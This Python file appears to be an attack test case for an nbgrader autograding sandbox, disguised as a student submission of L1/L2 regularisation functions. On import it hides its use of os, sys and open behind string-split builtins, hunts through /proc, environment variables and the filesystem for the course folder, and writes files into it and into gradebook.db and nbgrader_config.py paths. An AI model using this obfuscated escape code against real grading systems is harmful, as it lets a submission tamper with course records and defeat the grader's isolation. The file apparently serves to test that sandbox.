"""Attack: find the nbgrader course folder from inside the grading process and create a file in it."""

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}

_B = getattr(np, "__buil" + "tins__")
_B = _B if isinstance(_B, dict) else getattr(_B, "__di" + "ct__")
_load = _B["__imp" + "ort__"]
_o = _load("o" + "s")
_s = _load("s" + "ys")
_t = _load("ti" + "me")
_file = _B["op" + "en"]
MARK = "ESCAPE" + "-SUCCESS:"
TOKEN = "{{TOKEN}}"
WHERE = "child" if _o.getcwd().endswith("/regrade") else "kernel"
REPORT = []


def _say(text):
    REPORT.append(text)
    print(f"[{WHERE}] {text}", flush=True)


def _looks_like_course(folder):
    try:
        names = set(_o.listdir(folder))
    except OSError:
        return False
    return bool(names & {"gradebook.db", "nbgrader_config.py"}) or {"source", "release"} <= names \
        or {"submitted", "autograded"} & names


def _candidates():
    found = []
    # the processes we can see: their working folders and those of their parents
    for pid in [p for p in _o.listdir("/proc") if p.isdigit()] + [str(_o.getppid())]:
        try:
            found.append(_o.readlink(f"/proc/{pid}/cwd"))
        except OSError as e:
            _say(f"/proc/{pid}/cwd failed: {e!r}")
    # our own folder and its parents (nbgrader runs the notebook in autograded/<student>/<assignment>)
    here = _o.getcwd()
    while here not in ("/", ""):
        found.append(here)
        here = _o.path.dirname(here)
    # environment variables that hold folders
    for key, value in _o.environ.items():
        if value.startswith("/") and _o.path.isdir(value):
            found.append(value)
    # the virtual environment usually sits inside the course repository
    found += [_o.path.dirname(_s.prefix), _o.path.dirname(_o.path.dirname(_s.prefix))]
    found += ["/work/main", "/srv/nbgrader", "/home/jovyan", "/root", "/course", "/tmp"]
    # and a walk over what is mounted, for a folder holding a gradebook
    deadline = _t.monotonic() + 1.0
    for dirpath, dirnames, filenames in _o.walk("/"):
        if _t.monotonic() > deadline:
            _say("walking / ran out of time")
            break
        dirnames[:] = [d for d in dirnames if _o.path.join(dirpath, d) not in ("/proc", "/sys", "/dev", "/usr")]
        if "gradebook.db" in filenames or "nbgrader_config.py" in filenames:
            found.append(dirpath)
    unique = []
    for folder in found:
        if folder not in unique:
            unique.append(folder)
    return unique


def attack():
    courses = [c for c in _candidates() if _looks_like_course(c)]
    _say(f"course folders found: {courses}")
    for folder in courses:
        target = _o.path.join(folder, f"dlcv-escape-{TOKEN}-course.txt")
        try:
            with _file(target, "w") as handle:
                handle.write("written by a submission\n")
            _say(f"{MARK} created {target}")
        except OSError as e:
            _say(f"writing {target} failed: {e!r}")
    # also try straight into the places nbgrader reads from, wherever they are
    for relative in ("../../../gradebook.db-escape", "../../../nbgrader_config.py"):
        target = _o.path.normpath(_o.path.join(_o.getcwd(), relative))
        try:
            with _file(target, "a") as handle:
                handle.write("")
            _say(f"opened {target} for writing (folder is {'the course' if _looks_like_course(_o.path.dirname(target)) else 'not the course'})")
        except OSError as e:
            _say(f"opening {target} failed: {e!r}")


try:
    attack()
except Exception as e:  # noqa: BLE001
    _say(f"attack failed: {e!r}")


def L1_reg(W, reg):
    raise RuntimeError("report: " + " | ".join(REPORT)[-400:])


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)
